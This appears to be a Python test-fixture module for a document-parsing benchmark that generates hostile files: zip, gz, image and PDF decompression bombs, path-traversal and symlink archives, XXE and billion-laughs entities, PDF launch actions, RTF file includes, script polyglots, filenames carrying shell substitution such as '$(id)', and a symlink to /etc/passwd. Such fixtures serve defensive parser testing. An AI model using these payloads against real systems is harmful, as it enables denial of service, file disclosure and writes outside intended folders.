"""Files made to break whoever reads them, or to lead the reader where it must not go."""

import io
import os
import random
import socket
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path

from PIL import Image

from benchmarks.hostile_good import good_files, image_bytes, pdf_of, zipped

MARKER = "opensesame9f2c"  # stands in the file that no parser may quote
_MEGABYTE = 1_000_000


@dataclass(frozen=True)
class Trap:
    """What a file may try to reach: a file outside, a server, a folder to write to."""

    secret: Path
    url: str
    outside: Path


# -- hostile files -----------------------------------------------------------------------------


def hostile_files(trap: Trap) -> Iterator[tuple[str, bytes]]:
    """(name, bytes) of every trap that is an ordinary file with an ordinary name."""
    yield from _archives(trap)
    yield from _entities(trap)
    yield from _pictures()
    yield from _pdfs(trap)
    yield from _offices(trap)
    yield from _texts(trap)
    yield from _damaged()


def _zeros(count: int) -> bytes:
    """A raw deflate stream of ``count`` zero bytes."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(10 * _MEGABYTE)
    parts = [packer.compress(block) for _ in range(count // len(block))]
    return b"".join([*parts, packer.flush()])


def _zip_of(entries: list[tuple[bytes, int]], packed: bytes, size: int, crc: int) -> bytes:
    """A ZIP whose directory entries (name, offset of the header) share one packed stream."""
    name = entries[0][0]
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 33, crc, len(packed), size,
                        len(name), 0) + name  # fmt: skip
    directory = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 33, crc, len(packed), size,
                    len(each), 0, 0, 0, 0, 0, at) + each
        for each, at in entries
    )  # fmt: skip
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory),
                      len(local) + len(packed), 0)  # fmt: skip
    return local + packed + directory + end


def _archives(trap: Trap) -> Iterator[tuple[str, bytes]]:
    size = 700 * _MEGABYTE
    crc = 0
    for _ in range(70):
        crc = zlib.crc32(bytes(10 * _MEGABYTE), crc)
    packed = _zeros(size)
    yield "bomb-ratio.zip", _zip_of([(b"zeros.bin", 0)], packed, size, crc)
    # Its directory lies about the size.
    yield "bomb-liar.zip", _zip_of([(b"zeros.txt", 0)], packed, 1000, crc)
    small, crc = _zeros(100 * _MEGABYTE), zlib.crc32(bytes(100 * _MEGABYTE))
    yield "bomb-overlap.zip", _zip_of([(b"z.bin", 0)] * 9000, small, 100 * _MEGABYTE, crc)
    yield "bomb-nested.zip", _nested(small)
    yield "many-members.zip", zipped({f"{number}.bin": b"\0" for number in range(30_000)})
    deep = b"the innermost words"
    for level in range(40):
        deep = zipped({f"level-{level}.zip" if level else "deep.txt": deep, "note.txt": b"a note"})
    yield "deep.zip", deep
    climbing = {
        f"../../../../../../..{trap.outside}/climbed.txt": b"up",
        f"{trap.outside}/absolute.txt": b"up",
        "C:\\Windows\\evil.txt": b"up",
        "..\\..\\evil.txt": b"up",
        "new\nline\x1b[31m.txt": b"odd",
        "a/" * 500 + "deep.txt": b"deep",
        "con.txt": b"device",
    }
    yield "climbing.zip", zipped(climbing)
    link = zipfile.ZipInfo("link.txt")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, str(trap.secret))
    yield "link.zip", buffer.getvalue()
    for mode, suffix in (("w", "tar"), ("w:gz", "tar.gz"), ("w:xz", "tar.xz")):
        yield f"climbing.{suffix}", _tar(mode, trap)
    yield "sparse.tar", _sparse_tar(1 << 40)
    yield "bomb.gz", b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + packed + struct.pack("<II", 0, size)


def _nested(packed: bytes) -> bytes:
    crc = zlib.crc32(bytes(100 * _MEGABYTE))
    inner = _zip_of([(b"z.bin", 0)], packed, 100 * _MEGABYTE, crc)
    for _ in range(2):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return inner


def _tar(mode: str, trap: Trap) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name in (f"../../../../../..{trap.outside}/climbed.txt", f"{trap.outside}/abs.txt"):
            info = tarfile.TarInfo(name)
            info.size = 2
            archive.addfile(info, io.BytesIO(b"up"))
        for name, kind, target in (
            ("link.txt", tarfile.SYMTYPE, str(trap.secret)),
            ("hard.txt", tarfile.LNKTYPE, str(trap.secret)),
            ("folder", tarfile.SYMTYPE, str(trap.outside)),
            ("zero.txt", tarfile.CHRTYPE, ""),
            ("pipe.txt", tarfile.FIFOTYPE, ""),
        ):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.devmajor, info.devminor = kind, target, 1, 5
            archive.addfile(info)
        info = tarfile.TarInfo("folder/through-link.txt")
        info.size = 2
        archive.addfile(info, io.BytesIO(b"up"))
    return buffer.getvalue()


def _sparse_tar(size: int) -> bytes:
    """One GNU sparse member: a few bytes that stand for ``size`` zeros."""
    info = tarfile.TarInfo("sparse.txt")
    info.type = tarfile.GNUTYPE_SPARSE
    head = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    real = b"\x80" + size.to_bytes(11, "big")
    head[386:398] = real  # one stretch of data: at the end, empty
    head[398:410] = b"00000000000\0"
    head[483:495] = real
    head[148:156] = b"%06o\0 " % (sum(head[:148]) + sum(head[156:]) + 8 * 32)
    return bytes(head) + bytes(1024)


LAUGHS = '<!DOCTYPE l [<!ENTITY l0 "lol">' + "".join(
    f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 11)
) + "]>"  # fmt: skip
QUADRATIC = f'<!DOCTYPE l [<!ENTITY l10 "{"a " * 50_000}">]>'


def _entities(trap: Trap) -> Iterator[tuple[str, bytes]]:
    external = f'<!DOCTYPE l [<!ENTITY l10 SYSTEM "file://{trap.secret}">]>'
    remote = f'<!DOCTYPE l [<!ENTITY l10 SYSTEM "{trap.url}/entity">]>'
    parameter = f'<!DOCTYPE l [<!ENTITY % p SYSTEM "{trap.url}/dtd"> %p;]>'
    for label, doctype, use in (
        ("external", external, "&l10;"),
        ("remote", remote, "&l10;"),
        ("parameter", parameter, ""),
        ("laughs", LAUGHS, "&l10;"),
        ("quadratic", QUADRATIC, "&l10;" * 5_000),
    ):
        head = f'<?xml version="1.0"?>{doctype}'
        yield f"{label}.xml", f"{head}<l>{use}</l>".encode()
        yield f"{label}.html", f"{head}<html><body><p>words {use}</p></body></html>".encode()
        svg = f'{head}<svg xmlns="http://www.w3.org/2000/svg"><text y="9">{use}</text></svg>'
        yield f"{label}.svg", svg.encode()
        yield f"{label}.docx", _word(f"<w:p><w:r><w:t>w {use}</w:t></w:r></w:p>", doctype=doctype)
        yield f"{label}.xlsx", _sheet(f"<si><t>w {use}</t></si>", doctype=doctype)
        yield f"{label}.epub", _epub(f"{head}<html><body><p>words {use}</p></body></html>")
        yield f"{label}.odt", _odt(f"<text:p>words {use}</text:p>", doctype=doctype)
        yield (
            f"{label}.fb2",
            f"{head}<FictionBook><body><p>w {use}</p></body></FictionBook>".encode(),
        )


_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType='
    '"application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="{}"/></Relationships>'
)
_OFFICE = "application/vnd.openxmlformats-officedocument"


def _word(body: str, *, doctype: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    override = (
        f'<Override PartName="/word/document.xml" ContentType="{_OFFICE}'
        '.wordprocessingml.document.main+xml"/>'
    )
    document = (
        f'<?xml version="1.0"?>{doctype}<w:document xmlns:w='
        '"http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    )
    return zipped(
        {
            "[Content_Types].xml": _TYPES.format(override).encode(),
            "_rels/.rels": _RELATIONS.format("word/document.xml").encode(),
            "word/document.xml": document.encode(),
            **(parts or {}),
        }
    )


def _sheet(strings: str, *, doctype: str = "", rows: str = "") -> bytes:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    related = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    overrides = "".join(
        f'<Override PartName="/xl/{name}.xml" ContentType="{_OFFICE}.spreadsheetml.{kind}+xml"/>'
        for name, kind in (
            ("workbook", "sheet.main"),
            ("worksheets/sheet1", "worksheet"),
            ("sharedStrings", "sharedStrings"),
        )
    )
    cells = rows or '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    relations = "".join(
        f'<Relationship Id="r{number}" Type="{related}/{kind}" Target="{target}"/>'
        for number, (kind, target) in enumerate(
            (("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")), 1
        )
    )
    return zipped(
        {
            "[Content_Types].xml": _TYPES.format(overrides).encode(),
            "_rels/.rels": _RELATIONS.format("xl/workbook.xml").encode(),
            "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{related}"><sheets>'
            f'<sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>'.encode(),
            "xl/_rels/workbook.xml.rels": "<Relationships xmlns="
            f'"http://schemas.openxmlformats.org/package/2006/relationships">{relations}'
            "</Relationships>".encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}">'
            '<dimension ref="A1:XFD1048576"/>'
            f"<sheetData>{cells}</sheetData></worksheet>".encode(),
            "xl/sharedStrings.xml": f'<?xml version="1.0"?>{doctype}'
            f'<sst xmlns="{main}">{strings}</sst>'.encode(),
        }
    )


def _epub(chapter: str, *, target: str = "c.xhtml") -> bytes:
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0">'
        '<rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/>'
        "</rootfiles></container>"
    )
    package = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="i">'
        '<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>T</dc:title>'
        '<dc:identifier id="i">i</dc:identifier><dc:language>en</dc:language></metadata><manifest>'
        f'<item id="c" href="{target}" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="c"/><itemref idref="c"/></spine></package>'
    )
    return zipped(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "b.opf": package.encode(),
            "c.xhtml": chapter.encode(),
        }
    )


def _odt(body: str, *, doctype: str = "", kind: str = "text") -> bytes:
    names = "urn:oasis:names:tc:opendocument:xmlns"
    content = (
        f'<?xml version="1.0"?>{doctype}<office:document-content xmlns:office="{names}:office:1.0" '
        f'xmlns:text="{names}:text:1.0" xmlns:table="{names}:table:1.0" office:version="1.3">'
        f"<office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    )
    media = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (
        f'<manifest:manifest xmlns:manifest="{names}:manifest:1.0">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    return zipped(
        {
            "mimetype": media.encode(),
            "content.xml": content.encode(),
            "META-INF/manifest.xml": manifest.encode(),
        }
    )


def _png(width: int, height: int, *, depth: int, colour: int, extra: bytes = b"") -> bytes:
    """A black PNG whose bytes are few."""
    bits = depth * {0: 1, 2: 3}[colour]
    row = bytes(1 + (width * bits + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    pieces = _piece(b"IHDR", head) + extra + _piece(b"IDAT", data) + _piece(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + pieces


def _piece(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _pictures() -> Iterator[tuple[str, bytes]]:
    yield "bomb-60000.png", _png(60_000, 60_000, depth=1, colour=0)
    yield "large-but-allowed.png", _png(14_000, 14_000, depth=8, colour=2)
    bomb = zlib.compress(bytes(300 * _MEGABYTE), 9)
    text = _piece(b"zTXt", b"Comment\0\0" + bomb)
    profile = _piece(b"iCCP", b"p\0\0" + bomb)
    yield "bomb-text.png", _png(60, 60, depth=8, colour=2, extra=text)
    yield "bomb-profile.png", _png(60, 60, depth=8, colour=2, extra=profile)
    frame = b"\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0"
    head = b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff"
    yield "frames.gif", head + frame * 100_000 + b";"
    yield "huge-screen.gif", b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + frame + b";"
    tiff = io.BytesIO()
    Image.new("RGB", (60, 60)).save(tiff, "TIFF")
    looped = bytearray(tiff.getvalue())
    (first,) = struct.unpack_from("<I", looped, 4)
    (count,) = struct.unpack_from("<H", looped, first)
    struct.pack_into("<I", looped, first + 2 + 12 * count, first)
    yield "loop.tif", bytes(looped)
    jpeg = bytearray(image_bytes(Image.new("RGB", (64, 64), "red"), "JPEG"))
    at = jpeg.index(b"\xff\xc0")
    struct.pack_into(">HH", jpeg, at + 5, 14_000, 14_000)
    yield "short.jpg", bytes(jpeg)
    struct.pack_into(">HH", jpeg, at + 5, 65_500, 65_500)
    yield "bomb.jpg", bytes(jpeg)
    bitmap = bytearray(image_bytes(Image.new("RGB", (64, 64), "red"), "BMP"))
    struct.pack_into("<ii", bitmap, 18, 0x7FFFFFFF, -0x80000000)
    yield "bomb.bmp", bytes(bitmap)


def _pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """Objects numbered from 1, the first being the catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R%s>>\n" % (
        len(objects) + 1, table, len(objects) + 1, trailer,
    ) + b"startxref\n%d\n%%%%EOF" % len(body)  # fmt: skip


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), entries, data)


_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_ONE_PAGE = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_BLANK = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"


def _page(entries: bytes) -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]%s>>" % entries


def _pdfs(trap: Trap) -> Iterator[tuple[str, bytes]]:
    million = b"<</Type/Pages/Kids[%s]/Count 1000000>>" % (b"3 0 R " * 1_000_000)
    yield "million-pages.pdf", _pdf([_CATALOGUE, million, _BLANK])
    tree = [
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"%d 0 R " % (level + 3) * 10, 10 ** (8 - level))
        for level in range(8)
    ]
    yield "exponential-tree.pdf", _pdf([_CATALOGUE, *tree, _BLANK])
    yield "own-parent.pdf", _pdf([_CATALOGUE, b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9>>", _BLANK])
    yield "liar.pdf", _pdf([_CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", _BLANK])
    yield "deep.pdf", _pdf([_CATALOGUE, _ONE_PAGE, _page(b"/X" + b"[" * 200_000 + b"]" * 200_000)])
    bomb = zlib.compress(b"q " * (250 * _MEGABYTE), 9)
    content = _stream(bomb, b"/Filter/FlateDecode")
    yield "content-bomb.pdf", _pdf([_CATALOGUE, _ONE_PAGE, _page(b"/Contents 4 0 R"), content])
    twice = zlib.compress(bomb, 9)
    double = _stream(twice, b"/Filter[/FlateDecode/FlateDecode]")
    yield "double-bomb.pdf", _pdf([_CATALOGUE, _ONE_PAGE, _page(b"/Contents 4 0 R"), double])
    forms = [
        _stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
            % (number + 5),
        )
        for number in range(11)
    ]
    last = _stream(b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    use = _page(b"/Resources<</XObject<</X 4 0 R>>>>/Contents 4 0 R")
    yield "forms.pdf", _pdf([_CATALOGUE, _ONE_PAGE, use, *forms, last])
    loop = _stream(
        b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>"
    )
    yield "form-loop.pdf", _pdf([_CATALOGUE, _ONE_PAGE, use, loop])
    wide = _stream(
        zlib.compress(bytes(300 * _MEGABYTE), 9),
        b"/Type/XObject/Subtype/Image/Width 30000/Height 10000/BitsPerComponent 8"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode",
    )
    drawn = _stream(b"600 0 0 800 0 0 cm /X Do")
    shown = _page(b"/Resources<</XObject<</X 4 0 R>>>>/Contents 5 0 R")
    yield "image-bomb.pdf", _pdf([_CATALOGUE, _ONE_PAGE, shown, wide, drawn])
    huge = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 1e9 1e9]>>"
    yield "huge-page.pdf", _pdf([_CATALOGUE, _ONE_PAGE, huge])
    actions = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(%s)/Next<</S/URI/URI(%s)>>>>>>"
    outside = actions % (bytes(trap.outside / "launch"), trap.url.encode())
    file = b"/Contents<</F(%s)/Length 0>>" % bytes(trap.secret)
    yield "actions.pdf", _pdf([outside, _ONE_PAGE, _page(file)])
    lines = b"".join(b"%d 0 m %d 800 l S " % (x % 600, x % 599) for x in range(300_000))
    strokes = _stream(zlib.compress(lines), b"/Filter/FlateDecode")
    yield "strokes.pdf", _pdf([_CATALOGUE, _ONE_PAGE, _page(b"/Contents 4 0 R"), strokes])
    looped = _pdf([_CATALOGUE, _ONE_PAGE, _BLANK])
    at = looped.index(b"xref\n0 4")
    yield "xref-loop.pdf", _pdf([_CATALOGUE, _ONE_PAGE, _BLANK], b"/Prev %d" % at)
    pdf, archive = pdf_of("a page before an archive"), zipped({"in.txt": b"an archive behind"})
    yield "polyglot-pdf-zip.pdf", pdf + archive
    yield "polyglot-pdf-zip.zip", pdf + archive
    jpeg = image_bytes(Image.new("RGB", (64, 64), "red"), "JPEG")
    page = f"<html><script src='{trap.url}/script'></script><img src='{trap.url}/img'>".encode()
    yield "polyglot-jpeg-html.html", jpeg + page
    yield "polyglot-jpeg-html.jpg", jpeg + page
    yield "polyglot-gif-js.gif", b"GIF89a/*" + bytes(300) + b"*/=1;alert(1)"


def _offices(trap: Trap) -> Iterator[tuple[str, bytes]]:
    table = "<w:tbl><w:tr><w:tc>"
    end = "<w:p/></w:tc></w:tr></w:tbl>"
    yield "deep-tables.docx", _word(table * 3000 + end * 3000)
    yield "many-paragraphs.docx", _word("<w:p/>" * 2_000_000)
    yield "wide-part.docx", _word("<w:p/>", parts={"word/x.xml": b" " * (400 * _MEGABYTE)})
    yield "wide-body.docx", _word(f"<w:p><w:r><w:t>{' ' * (300 * _MEGABYTE)}</w:t></w:r></w:p>")
    spans = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>'
    yield "wide-span.docx", _word(f"{spans}<w:p/></w:tc></w:tr></w:tbl>")
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
    yield "far-cell.xlsx", _sheet("", rows=far)
    many = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, 20_001))
    yield "many-rows.xlsx", _sheet("", rows=many)
    repeated = (
        '<table:table><table:table-row table:number-rows-repeated="1000000000">'
        '<table:table-cell table:number-columns-repeated="16384"><text:p>again</text:p>'
        "</table:table-cell></table:table-row></table:table>"
    )
    yield "repeated.ods", _odt(repeated, kind="spreadsheet")
    yield "spaces.odt", _odt('<text:p>a<text:s text:c="2000000000"/>b</text:p>')
    yield "sections.odt", _odt("<text:section>" * 20_000 + "</text:section>" * 20_000)
    yield "outside.epub", _epub("<html><p>w</p></html>", target=f"../../../..{trap.secret}")
    yield "remote.epub", _epub("<html><p>w</p></html>", target=f"{trap.url}/chapter")
    yield "braces.rtf", b"{\\rtf1 " + b"{" * 200_000 + b"deep" + b"}" * 200_000 + b"}"
    yield "binary.rtf", b"{\\rtf1 \\bin2147483647 words}"
    yield "include.rtf", b'{\\rtf1 {\\field{\\*\\fldinst INCLUDETEXT "%s"}}}' % bytes(trap.secret)
    yield "cut.doc", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(range(256)) * 20


def _texts(trap: Trap) -> Iterator[tuple[str, bytes]]:
    yield "one-word.txt", b"a" * (2 * _MEGABYTE)
    yield "zeros.txt", bytes(2 * _MEGABYTE)
    yield "line-breaks.txt", b"\n" * (5 * _MEGABYTE)
    yield "accents.txt", ("e" + "\u0301" * 500_000).encode()
    yield "controls.txt", "\u202eevil\u200b\x07\x1b[2J words".encode() * 50
    yield "brackets.md", b"[" * 100_000 + b"](" * 1000
    yield "quotes.md", b">" * 50_000 + b" deep"
    yield "stars.md", b"*a **b " * 20_000
    yield "list.md", b"".join(b" " * level + b"- item\n" for level in range(600))
    remote = f"<img src='{trap.url}/i'><iframe src='{trap.url}/f'></iframe><link href='{trap.url}'>"
    local = f"<img src='file://{trap.secret}'><object data='{trap.secret}'></object>"
    yield "remote.html", f"<html><body><p>words</p>{remote}{local}</body></html>".encode()
    yield "deep.html", b"<html><body>" + b"<div>" * 100_000 + b"deep"
    yield "attributes.html", b"<html><p " + b"a='1' " * 200_000 + b">words</p>"
    yield (
        "spans.html",
        (b"<html><table><tr><td colspan=1000000000 rowspan=1000000000>wide</td></tr></table>"),
    )
    yield "columns.csv", b",".join(b"%d" % n for n in range(100_000)) + b"\n"
    yield "quote.csv", b'a,b\n"never closed,' + b"x,\n" * 100_000
    yield "deep.json", b"[" * 500_000
    letter = EmailMessage()
    letter["Subject"] = "h" * 200_000
    letter.set_content(f"<img src='{trap.url}/mail'>words", subtype="html")
    yield "remote.eml", letter.as_bytes()
    parts = b"Content-Type: multipart/mixed; boundary=%d\n\n--%d\n"
    nested = b"".join(parts % (level, level) for level in range(2000))
    yield "multiparts.eml", b"From: a@example.org\nSubject: deep\n" + nested + b"\n\nwords"
    inner = b"From: a@example.org\nSubject: inner\n\nwords\n"
    for _ in range(200):
        inner = b"From: a@example.org\nSubject: s\nContent-Type: message/rfc822\n\n" + inner
    yield "letters.eml", inner


def _damaged() -> Iterator[tuple[str, bytes]]:
    """Good files emptied, cut, or with flipped bytes, and bytes that belong to another format."""
    rng = random.Random(20)
    samples = {Path(name).suffix: data for name, data, _ in good_files(7)}
    samples |= {
        suffix: image_bytes(Image.effect_noise((90, 60), 80).convert("RGB"), kind)
        for suffix, kind in ((".gif", "GIF"), (".bmp", "BMP"), (".tif", "TIFF"))
    }
    samples[".epub"] = _epub("<html><body><p>words</p></body></html>")
    samples[".odt"] = _odt("<text:p>words</text:p>")
    for suffix, data in samples.items():
        yield f"empty{suffix}", b""
        yield f"random{suffix}", rng.randbytes(3000)
        yield f"cut{suffix}", data[: len(data) // 2]
        flipped = bytearray(data)
        for _ in range(max(1, len(data) // 200)):
            flipped[rng.randrange(len(data))] = rng.randrange(256)
        yield f"flipped{suffix}", bytes(flipped)
    yield "program.pdf", b"\x7fELF" + bytes(500)


# -- names and things that are no files ----------------------------------------------------------


def odd_names(folder: Path) -> list[Path]:
    """Text files with names that trip programs; all of them can be read."""
    names = ["line\nbreak.txt", "\x1b[31mred\x07.txt", "-rf.txt", "bang!.txt", "$(id);`id`'\".txt"]
    names += ["\u202etxt.exe.txt", "x" * 251 + ".txt", "%s%n.txt", "[bold]rich[red].txt"]
    made = []
    for number, name in enumerate(names):
        path = folder / name
        path.write_text(f"The granary has {number} doors.")
        made.append(path)
    deep = folder
    for level in range(15):
        deep = deep / (f"{level}" * 100)
    deep.mkdir(parents=True)
    made.append(deep / "deep.txt")
    made[-1].write_text("The cellar is deep.")
    return made


def misnamed(folder: Path) -> Path:
    """A file whose name is in Windows-1251, as the catalogue writes it."""
    name = os.fsencode(folder) + "/привет.txt".encode("cp1251")
    Path(os.fsdecode(name)).write_bytes(b"The furnace is cold.")
    return Path(name.decode("utf-8", "backslashreplace"))


def no_files(folder: Path) -> None:
    """Pipes, devices, sockets and links that lead round or outside."""
    os.mkfifo(folder / "pipe.txt")
    try:
        os.mknod(folder / "zero.txt", 0o020666, os.makedev(1, 5))
    except OSError:
        (folder / "zero.txt").symlink_to("/dev/zero")
    (folder / "loop.txt").symlink_to("loop.txt")
    (folder / "again").symlink_to(folder, target_is_directory=True)
    (folder / "passwd.txt").symlink_to("/etc/passwd")
    here = Path.cwd()
    os.chdir(folder)  # the path of a socket must be short
    with socket.socket(socket.AF_UNIX) as door:
        door.bind("door.txt")
    os.chdir(here)
